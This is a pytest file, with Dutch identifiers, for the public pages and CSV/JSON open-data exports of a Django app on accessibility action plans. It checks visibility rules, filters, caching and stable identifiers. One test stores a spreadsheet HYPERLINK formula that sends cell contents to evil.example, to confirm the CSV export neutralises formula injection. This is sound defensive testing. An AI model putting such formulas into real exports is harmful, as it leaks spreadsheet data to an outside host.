"""The public pages and open data: only published plans, approved updates and answered advice;
filters in the URL; CSV and JSON with stable identifiers; few queries; a change shows at once."""

import csv
import io
import json

import pytest
from django.urls import reverse

from tests.queries import pagina_queries
from tests.toegankelijkheid.factories import actie_van, advies, bijwerken, plan, raadslid, team_lid
from toegankelijkheid.models import Resultaatsgebied
from toegankelijkheid.services import plannen, voortgang

pytestmark = pytest.mark.django_db


def test_een_plan_in_ontwerp_staat_nergens(client):
    ontwerp = plan("2030-2031", gepubliceerd=False)
    assert "2030-2031" not in client.get(reverse("toegankelijkheid:index")).text
    for naam in ["plan", "acties", "acties-csv", "acties-json"]:
        assert client.get(reverse(f"toegankelijkheid:{naam}", args=[ontwerp.slug])).status_code == 404
    actie = ontwerp.acties.get()
    assert client.get(reverse("toegankelijkheid:actie", args=[actie.sleutel])).status_code == 404


def test_een_update_die_wacht_of_afgewezen_is_staat_niet_op_de_website(client, burger):
    from django.utils import timezone

    actie = actie_van(burger)
    wacht = voortgang.update_indienen(
        actie=actie,
        door=burger,
        datum=timezone.localdate(),
        tekst="Geheim ontwerp",
        actie_status="lopend",
        voortgang=20,
    )
    afgewezen = voortgang.update_indienen(
        actie=actie,
        door=burger,
        datum=timezone.localdate(),
        tekst="Slordige tekst",
        actie_status="lopend",
        voortgang=25,
    )
    voortgang.update_afwijzen(update=afgewezen, door=team_lid(), reden="Klare taal graag.")
    paginas = [
        client.get(reverse("toegankelijkheid:actie", args=[actie.sleutel])).text,
        client.get(reverse("toegankelijkheid:acties-json", args=[actie.actieplan.slug])).text,
        client.get(reverse("toegankelijkheid:acties-csv", args=[actie.actieplan.slug])).text,
        client.get(reverse("toegankelijkheid:plan", args=[actie.actieplan.slug])).text,
    ]
    for pagina in paginas:
        assert (
            "Geheim ontwerp" not in pagina and "Slordige tekst" not in pagina and "Klare taal" not in pagina
        )
    voortgang.update_goedkeuren(update=wacht, door=team_lid())
    assert "Geheim ontwerp" in client.get(reverse("toegankelijkheid:actie", args=[actie.sleutel])).text


def test_de_plannen_het_huidige_eerst_met_hun_voortgang(client):
    oud = plan("2030-2031", acties=2)
    bijwerken(oud.acties.get(nummer=1), status="gerealiseerd", pct=100, door=team_lid())
    plan("2032-2033")
    pagina = client.get(reverse("toegankelijkheid:index")).text
    assert pagina.index("2032-2033") < pagina.index("2030-2031")
    assert "1 van 2 acties gerealiseerd. Gemiddelde voortgang: 50%." in pagina


def test_de_actielijst_filtert_op_domein_gebied_status_dienst_en_woord(client):
    actieplan = plan(acties=3)
    een, twee, drie = actieplan.acties.order_by("nummer")
    drie.resultaatsgebied = Resultaatsgebied.objects.get(nummer=9)
    drie.titel = "Beeldwoordenboek"
    drie.save()
    bijwerken(twee, status="lopend", pct=10, door=team_lid())
    url = reverse("toegankelijkheid:acties", args=[actieplan.slug])
    for query, wel, niet in [
        ("?domein=communicatie", "Beeldwoordenboek", "Actie 1"),
        ("?gebied=9", "Beeldwoordenboek", "Actie 2"),
        ("?status=lopend", "Actie 2", "Beeldwoordenboek"),
        ("?q=woordenboek", "Beeldwoordenboek", "Actie 1"),
        (f"?dienst={een.trekker_id}&status=gepland", "Actie 1", "Actie 2"),
    ]:
        pagina = client.get(url + query).text
        assert wel in pagina and niet not in pagina, query


def test_de_actielijst_kost_evenveel_queries_met_veel_acties(client):
    actieplan = plan(acties=2)
    url = reverse("toegankelijkheid:acties", args=[actieplan.slug]) + "?status=gepland"
    trekker = actieplan.acties.first().trekker
    actieplan.acties.create(
        nummer=3,
        resultaatsgebied_id=actieplan.acties.first().resultaatsgebied_id,
        trekker=trekker,
        titel="A3",
        wat="x",
    )
    weinig = pagina_queries(client, url)  # after a change: nothing cached
    for nummer in range(4, 30):
        actieplan.acties.create(
            nummer=nummer, resultaatsgebied_id=1, trekker=trekker, titel=f"A{nummer}", wat="x"
        )
    assert pagina_queries(client, url) == weinig


def test_een_goedgekeurde_update_staat_meteen_in_de_gecachte_lijst(client, burger):
    actie = actie_van(burger)
    url = reverse("toegankelijkheid:acties", args=[actie.actieplan.slug])
    assert "Gepland, 0% klaar" in client.get(url).text
    assert pagina_queries(client, url) == 0  # the plan, its filters and the list: all remembered
    bijwerken(actie, status="lopend", pct=45, door=team_lid())
    assert "Lopend, 45% klaar" in client.get(url).text


def test_open_data_in_csv_en_json_met_vaste_ids(client):
    oud = plan("2030-2031", acties=1)
    bijwerken(oud.acties.get(), status="lopend", pct=30, door=team_lid())
    nieuw = plan("2032-2033", acties=0, gepubliceerd=False)
    plannen.acties_overnemen(van=oud, naar=nieuw, door=None)
    plannen.plan_publiceren(plan=nieuw, door=None)
    rijen = list(
        csv.DictReader(
            io.StringIO(
                client.get(reverse("toegankelijkheid:acties-csv", args=["2032-2033"])).content.decode(
                    "utf-8-sig"
                )
            )
        )
    )
    assert len(rijen) == 1
    assert rijen[0]["overgenomen_van"] == str(oud.acties.get().sleutel)
    assert (rijen[0]["status"], rijen[0]["voortgang"], rijen[0]["domein"], rijen[0]["resultaatsgebied"]) == (
        "lopend",
        "30",
        "infrastructuur",
        "1",
    )
    gegevens = json.loads(client.get(reverse("toegankelijkheid:acties-json", args=["2030-2031"])).content)
    assert gegevens["plan"]["id"] == "2030-2031"
    assert set(gegevens["velden"]) == set(gegevens["acties"][0])  # every field is described
    assert gegevens["acties"][0]["id"] == str(oud.acties.get().sleutel)


def test_de_actiepagina_toont_tijdlijn_advies_en_herkomst(client):
    oud = plan("2030-2031", acties=1)
    actie = oud.acties.get()
    bijwerken(actie, status="lopend", pct=30, door=team_lid())
    stuk = advies(raadslid(), status="ingediend", actieplan=oud)
    stuk.actie = actie
    stuk.save()
    from toegankelijkheid.services import adviezen

    team = team_lid()
    adviezen.punt_beantwoorden(
        punt=stuk.punten.get(), door=team, standpunt="aanvaard", motivering="Ja.", opvolging=""
    )
    adviezen.advies_beantwoorden(advies=stuk, door=team)
    nieuw = plan("2032-2033", acties=0, gepubliceerd=False)
    plannen.acties_overnemen(van=oud, naar=nieuw, door=None)
    plannen.plan_publiceren(plan=nieuw, door=None)
    pagina = client.get(reverse("toegankelijkheid:actie", args=[actie.sleutel])).text
    assert "lopend 30" in pagina and "Ons advies" in pagina
    assert "Deze actie loopt verder in Actieplan Toegankelijkheid 2032-2033" in pagina
    kopie = nieuw.acties.get()
    assert (
        "Deze actie begon in Actieplan Toegankelijkheid 2030-2031"
        in client.get(reverse("toegankelijkheid:actie", args=[kopie.sleutel])).text
    )


def test_een_formule_in_een_actie_wordt_in_de_csv_gewone_tekst(client):
    actieplan = plan()
    actie = actieplan.acties.get()
    actie.partners = '=HYPERLINK("http://evil.example/?"&A1,"Meer info")'
    actie.save()
    csv_tekst = client.get(reverse("toegankelijkheid:acties-csv", args=[actieplan.slug])).content.decode(
        "utf-8-sig"
    )
    assert next(csv.DictReader(io.StringIO(csv_tekst)))["partners"].startswith("'=HYPERLINK")
    gegevens = json.loads(client.get(reverse("toegankelijkheid:acties-json", args=[actieplan.slug])).content)
    assert gegevens["acties"][0]["partners"].startswith("=HYPERLINK")  # the JSON as written


def test_de_dienstenlijst_noemt_geen_diensten_van_een_plan_in_ontwerp(client):
    from tests.toegankelijkheid.factories import organisatie

    zichtbaar = plan()
    plan(gepubliceerd=False, trekker=organisatie("Juridische Dienst"))
    pagina = client.get(reverse("toegankelijkheid:acties", args=[zichtbaar.slug])).text
    assert "Juridische Dienst" not in pagina and "Facility Management" in pagina


def test_de_gedeelde_fragmenten_dragen_niets_van_de_vorige_bezoeker(client, burger):
    actieplan = plan()
    client.force_login(burger)
    for naam in ["plan", "acties"]:
        client.get(reverse(f"toegankelijkheid:{naam}", args=[actieplan.slug]))
    eigen_token = client.cookies["csrftoken"].value if "csrftoken" in client.cookies else "geen-token"
    client.logout()
    for naam in ["plan", "acties"]:
        pagina = client.get(reverse(f"toegankelijkheid:{naam}", args=[actieplan.slug])).text
        assert burger.naam not in pagina and burger.email not in pagina and eigen_token not in pagina
